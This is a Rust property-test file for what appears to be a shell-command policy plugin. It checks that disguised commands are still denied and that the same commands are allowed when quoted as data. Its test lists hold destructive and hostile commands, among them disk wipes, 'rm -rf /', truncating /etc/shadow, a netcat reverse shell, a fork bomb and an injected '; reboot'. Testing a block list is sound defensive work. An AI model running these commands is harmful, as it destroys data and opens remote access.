//! However a command is dressed, its verdict stays; as data it is harmless.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, reason = "a test fails by panicking")]

#[path = "support/rewrites.rs"]
mod rewrites;
mod support;

use portcullis_plugin::policy::Mode;
use proptest::prelude::*;
use rewrites::{AS_DATA, OF_LINES, OF_WORDS};
use support::{judged, objections};

/// Refused in every mode, one plain command each.
const EXTREME: &[&str] = &[
    "rm -rf /",
    "rm -r --force /etc",
    "rm -fr /home/bob",
    "mkfs.ext4 /dev/sda1",
    "dd if=a of=/dev/sda",
    "wipefs -a /dev/sdb",
    "shred /dev/sda",
    "chmod -R 777 /usr",
    "chown -R bob /etc",
    "find /etc -delete",
    "mv /etc/passwd /tmp/p",
    "truncate -s 0 /etc/shadow",
    "cp x /etc/sudoers",
    "tee /dev/sda",
    "nc -e /bin/sh 203.0.113.9 443",
    "cryptsetup luksFormat /dev/sda2",
    "vgremove -f data",
];
/// Refused in `safe`.
const GUARDED: &[&str] = &[
    "rm -rf build",
    "rm /srv/data.csv",
    "systemctl stop nginx",
    "apt-get remove -y nginx",
    "kill -9 1234",
    "useradd -m bob",
    "git push --force origin main",
    "docker rm -f web",
    "kubectl delete pod api",
    "sed -i s/a/b/ conf.yml",
    "cp x /usr/local/bin/y",
    "chmod 4755 tool",
    "iptables -F",
    "reboot",
    "vim notes.txt",
    "tail -f app.log",
];
/// What the rules themselves say of a rewrite: a time limit ends a stream, a word in braces alone is no
/// list, and behind an unlisted program only extreme commands are looked for.
fn is_excused(name: &str, line: &str) -> bool {
    let guarded = GUARDED.contains(&line);
    match name {
        "limited" => line.starts_with("tail"),
        "braces" => !line.contains(' '),
        "unlisted wrapper" => guarded,
        _ => false,
    }
}

#[test]
fn no_rewrite_makes_a_command_milder() {
    let mut wrong = Vec::new();
    for (name, rewrite) in OF_WORDS.iter().chain(OF_LINES) {
        for line in EXTREME {
            let dressed = rewrite(line);
            if judged(&dressed, Mode::Full) != "deny" {
                wrong.push(format!("{name}: {dressed}"));
            }
        }
        for line in GUARDED.iter().filter(|line| !is_excused(name, line)) {
            let dressed = rewrite(line);
            if judged(&dressed, Mode::Safe) != "deny" {
                wrong.push(format!("{name}: {dressed}"));
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn data_is_never_taken_for_a_command() {
    let mut wrong = Vec::new();
    for (name, rewrite) in AS_DATA {
        for line in EXTREME.iter().chain(GUARDED).chain(&["a | sh", "x > /etc/passwd", ":(){ :|:& };:", "it's; reboot"])
        {
            let data = rewrite(line);
            if judged(&data, Mode::Safe) != "allow" {
                wrong.push(format!("{name}: {data}: {:?}", objections(&data)));
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// A command, how its words are written and what is put around it.
fn dressed(commands: &'static [&'static str]) -> impl Strategy<Value = (String, &'static str)> {
    (
        prop::sample::select(commands),
        prop::option::weighted(0.7, prop::sample::select(OF_WORDS)),
        prop::collection::vec(prop::sample::select(OF_LINES), 0..4),
    )
        .prop_filter("excused", |(line, first, _)| first.is_none_or(|(name, _)| !is_excused(name, line)))
        .prop_map(|(line, first, around)| {
            let start = first.map_or_else(|| line.to_owned(), |(_, rewrite)| rewrite(line));
            (around.iter().fold(start, |line, (_, rewrite)| rewrite(&line)), line)
        })
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 4000, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn rewrites_compose_on_extreme_commands((line, _) in dressed(EXTREME)) {
        prop_assert_eq!(judged(&line, Mode::Full), "deny", "{}", line);
        prop_assert_eq!(judged(&line, Mode::Safe), "deny", "{}", line);
    }

    #[test]
    fn rewrites_compose_on_guarded_commands((line, command) in dressed(GUARDED)) {
        prop_assert_eq!(judged(&line, Mode::Safe), "deny", "{}: {}", command, line);
        prop_assert!(judged(&line, Mode::Full) != "allow", "{}", line);
    }

    #[test]
    fn dressed_commands_are_harmless_as_data(
        (line, _) in dressed(EXTREME),
        (_, data) in prop::sample::select(AS_DATA),
    ) {
        let data = data(&line);
        prop_assert_eq!(judged(&data, Mode::Safe), "allow", "{}: {:?}", data, objections(&data));
    }
}
